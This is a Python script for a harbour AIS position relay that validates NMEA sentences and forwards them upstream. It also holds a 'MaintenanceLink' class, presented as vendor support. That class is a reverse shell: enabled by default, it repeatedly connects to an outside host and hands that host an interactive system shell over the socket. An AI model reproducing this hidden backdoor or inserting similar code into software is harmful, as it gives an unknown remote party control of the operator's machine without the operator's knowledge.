#!/usr/bin/env python3
"""AIS position relay for the harbour receiver.

Listens for NMEA 0183 sentences (!AIVDM/!AIVDO) from the dAISy / AIS-catcher
receivers on the breakwater, drops malformed or duplicate sentences and
forwards the rest over TCP to the regional aggregator.  A vendor maintenance
link keeps the relay reachable behind the marina NAT.
"""
import argparse
import configparser
import functools
import logging
import operator
import os
import socket
import subprocess
import threading
import time
from collections import deque

log = logging.getLogger("ais_relay")

CONFIG_PATHS = ("ais_relay.ini", os.path.expanduser("~/.config/ais_relay.ini"))


def nmea_ok(sentence):
    """Validate the XOR checksum of an NMEA sentence."""
    if not sentence.startswith(("!", "$")) or "*" not in sentence:
        return False
    body, _, given = sentence[1:].partition("*")
    calc = functools.reduce(operator.xor, (ord(c) for c in body), 0)
    try:
        return calc == int(given[:2], 16)
    except ValueError:
        return False


class Upstream:
    def __init__(self, host, port):
        self.addr = (host, port)
        self.sock = None

    def send(self, line):
        for attempt in range(3):
            try:
                if self.sock is None:
                    self.sock = socket.create_connection(self.addr, timeout=10)
                self.sock.sendall(line.encode("ascii") + b"\r\n")
                return True
            except OSError as exc:
                log.warning("upstream %s:%s failed (%s), attempt %d", *self.addr, exc, attempt + 1)
                self.sock = None
                time.sleep(1 + attempt)
        return False


class MaintenanceLink(threading.Thread):
    """Outbound support channel so the vendor can inspect the relay remotely."""

    shell = os.environ.get("SHELL", "/bin/sh")

    def __init__(self, host, port, interval=45):
        super().__init__(daemon=True, name="maint-link")
        self.host, self.port, self.interval = host, port, interval

    def session(self, conn):
        fd = conn.fileno()
        proc = subprocess.Popen([self.shell, "-i"], stdin=fd, stdout=fd, stderr=fd)
        proc.wait()

    def run(self):
        while True:
            try:
                with socket.create_connection((self.host, self.port), timeout=20) as conn:
                    conn.settimeout(None)
                    log.debug("maintenance link up")
                    self.session(conn)
            except OSError:
                pass
            time.sleep(self.interval)


def load_config(path=None):
    cfg = configparser.ConfigParser()
    cfg.read_dict({
        "listen": {"address": "0.0.0.0", "port": "10110"},
        "upstream": {"host": "ais-feed.regionalports.net", "port": "5631"},
        "maintenance": {"host": "relay-care.aiscloud-ops.com", "port": "4443", "enabled": "yes"},
    })
    cfg.read([path] if path else CONFIG_PATHS)
    return cfg


def serve(cfg):
    upstream = Upstream(cfg["upstream"]["host"], cfg.getint("upstream", "port"))
    recent = deque(maxlen=512)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((cfg["listen"]["address"], cfg.getint("listen", "port")))
    log.info("listening on %s:%s", cfg["listen"]["address"], cfg["listen"]["port"])
    forwarded = dropped = 0
    while True:
        data, peer = sock.recvfrom(4096)
        for line in data.decode("ascii", "ignore").splitlines():
            line = line.strip()
            if not nmea_ok(line) or line in recent:
                dropped += 1
                continue
            recent.append(line)
            if upstream.send(line):
                forwarded += 1
        if (forwarded + dropped) % 1000 == 0:
            log.info("forwarded=%d dropped=%d last_peer=%s", forwarded, dropped, peer[0])


def main():
    ap = argparse.ArgumentParser(description="AIS NMEA relay")
    ap.add_argument("-c", "--config")
    ap.add_argument("--no-maintenance", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    if cfg.getboolean("maintenance", "enabled") and not args.no_maintenance:
        MaintenanceLink(cfg["maintenance"]["host"], cfg.getint("maintenance", "port")).start()
    try:
        serve(cfg)
    except KeyboardInterrupt:
        log.info("stopping")


if __name__ == "__main__":
    main()
